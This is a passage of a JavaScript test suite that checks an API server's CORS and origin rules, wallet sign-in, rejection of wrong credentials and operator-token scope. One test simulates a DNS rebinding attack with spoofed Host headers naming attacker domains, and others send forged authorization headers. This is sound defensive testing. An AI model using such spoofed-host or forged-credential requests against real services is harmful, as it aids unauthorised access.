    assert.equal(refused.status, 204);
    assert.deepEqual(corsHeaders(refused), []);
  }
});

test("A page may send every header in the document, on every route", async () => {
  const sent = { "X-CSRF-Token": "c", "X-Captcha-Token": "c", "X-Wallet-Signature": "s", "anthropic-version": "2023-06-01", "X-Request-Id": "abcdef-123", "Last-Event-ID": "0" };
  const client = page(development, LOCAL[0], { credentials: true });
  assert.equal((await client.fetch("GET", "/health", { headers: sent })).status, 200);
  await refused(client.fetch("GET", "/health", { headers: { "X-Unheard-Of": "x" } }));
  for (const [path, item] of Object.entries(document.paths)) {
    for (const [method, { parameters = [] }] of Object.entries(item)) {
      const headers = parameters.map(resolved).filter((parameter) => parameter.in === "header").map(({ name }) => [name, "x"]);
      const asked = page(development, PAGE, { credentials: true });
      // The page can read every response.
      await (await asked.fetch(method.toUpperCase(), path.replace(/\{.+?\}/g, "x"), { headers: Object.fromEntries(headers) })).body?.cancel();
    }
  }
});

test("A page of a foreign origin changes nothing: 403 on every route that writes", () =>
  changingNothing(development, async () => {
    for (const route of ROUTES.filter((route) => route.method !== "GET")) {
      for (const origin of route.under ? FOREIGN.slice(0, 1) : FOREIGN) {
        await problem(await askRoute(development, route, project.id, { headers: { origin } }), 403, "origin_not_allowed");
      }
    }
  }));

test("Pages of our own origin, of the listed ones and of this machine's may write", async () => {
  for (const origin of [development.url, PAGE, ...LOCAL]) {
    const response = await send("POST", "/api/projects", JSON.stringify({ name: "From a page" }), { origin });
    assert.equal(response.status, 201);
  }
});

test("A page of this machine signs in with a wallet for its own domain", async () => {
  const [wallet, origin] = [newWallet(), LOCAL[0]];
  const { message } = await (await send("POST", "/auth/wallet/challenge", JSON.stringify({ address: wallet.address }), { origin })).json();
  assert.match(message, /^localhost:5173 wants you to sign in/);
  const signed = JSON.stringify({ message, signature: wallet.sign(message) });
  assert.equal((await send("POST", "/auth/wallet/verify", signed, { origin })).status, 200);
  const { message: other } = await (await send("POST", "/auth/wallet/challenge", JSON.stringify({ address: wallet.address }), { origin })).json();
  const elsewhere = JSON.stringify({ message: other, signature: wallet.sign(other) });
  await problem(await send("POST", "/auth/wallet/verify", elsewhere, { origin: LOCAL[1] }), 401);
});

// --- Who is calling ---------------------------------------------------------

test("A wrong credential is 401 everywhere, in development and on public routes too", async () => {
  const wrong = [
    { authorization: "Bearer wrong" }, { authorization: "wrong" }, { authorization: "Bearer" }, { authorization: "Basic dXNlcjpwYXNz" },
    { "x-api-key": "hk_live_wrong" }, { authorization: `Basic ${ADMIN_TOKEN}` }, { authorization: "Bearer wrong", "x-api-key": ADMIN_TOKEN },
  ];
  for (const worker of [development, production]) {
    await changingNothing(worker, async () => {
      for (const route of ROUTES) {
        // For Anthropic's clients the right key in their own header wins.
        const all = route.pattern.startsWith("/v1/messages") ? wrong.slice(0, -1) : wrong;
        for (const headers of route.under ? wrong.slice(0, 1) : all) {
          const response = await askRoute(worker, route, project.id, { headers });
          assert.equal(response.headers.get("www-authenticate"), 'Bearer error="invalid_token"', `${named(route)} ${JSON.stringify(headers)}`);
          await problem(response, 401, "unauthorized");
        }
      }
    });
  }
});

test("A page that reaches a development Worker under its own domain has no identity (DNS rebinding)", async () => {
  const asked = (host) => new Promise((resolve, reject) => {
    const { port } = new URL(development.url);
    const headers = { host, origin: `http://${host}`, ...JSON_TYPE };
    http.request({ host: "127.0.0.1", port, path: "/api/projects", method: "POST", headers }, (response) => {
      response.resume();
      resolve(response.statusCode);
    }).on("error", reject).end(JSON.stringify({ name: "Rebound" }));
  });
  assert.equal(await asked(new URL(development.url).host), 201);
  await changingNothing(development, async () => {
    assert.equal(await asked("evil.example:8787"), 401);
    assert.equal(await asked("localhost.evil.example"), 401);
  });
});

test("The operator's token opens only the operator's routes", async () => {
  for (const headers of [{ authorization: `Bearer ${ADMIN_TOKEN}` }, { authorization: `bearer ${ADMIN_TOKEN}` }, { "x-api-key": ADMIN_TOKEN }]) {
    assert.equal((await ask(development, "GET", "/admin/jobs", { headers })).status, 200);
    assert.equal((await ask(development, "GET", "/health", { headers })).status, 200);
    await problem(await ask(development, "GET", "/api/projects", { headers }), 403, "not_a_user");
  }
});

test("In production without secrets, only public routes answer", () =>
  changingNothing(production, async () => {
    for (const route of ROUTES) {
      const isOperators = ["Staff", "Operator"].includes(route.access), isOfStack = route.pattern.startsWith("/auth/stack/");
      const response = await askRoute(production, route, "unknown", { allow: isOperators || isOfStack ? 503 : undefined });
      if (/^User$|^Machine$|^Scope/.test(route.access)) {
        assert.equal(response.headers.get("www-authenticate"), "Bearer", named(route));
        await problem(response, 401, "unauthorized");
      } else if (isOperators) {
        assert.match((await problem(response, 503, "not_configured")).detail, /ADMIN_TOKEN/);
      } else if (isOfStack) {
        assert.match((await problem(response, 503, "not_configured")).detail, /STACK_PROJECT_ID/);
      } else {
        assert.ok([200, 308, 404].includes(response.status) || isSignIn(route) || ["/api/setup", "/apps/{id}/archive"].includes(route.pattern), `${named(route)} ${response.status}`);
      }
    }
  }));
